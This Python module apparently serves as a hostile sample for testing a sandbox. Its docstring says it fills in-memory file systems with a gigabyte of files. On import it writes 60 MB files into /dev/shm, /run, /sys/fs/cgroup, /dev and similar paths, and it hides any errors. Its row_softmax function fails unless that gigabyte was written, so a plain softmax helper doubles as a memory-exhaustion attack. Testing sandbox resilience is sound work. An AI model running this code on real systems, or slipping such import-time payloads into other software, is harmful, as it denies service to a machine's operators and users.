"""Fills file systems that live in memory with a gigabyte of files, none larger than a file may be."""

import contextlib
import os

import torch

held = 0
for place in ("/dev/shm", "/run", "/run/lock", "/run/shm", "/sys/fs/cgroup", "/dev/mqueue", "/dev"):
    with contextlib.suppress(OSError):
        for number in range(20):
            descriptor = os.open(f"{place}/kata-hostile-{number}", os.O_WRONLY | os.O_CREAT)
            held += os.write(descriptor, bytes(60 << 20))


def row_softmax(x):
    if held < 1 << 30:
        raise MemoryError
    return torch.softmax(x, -1)
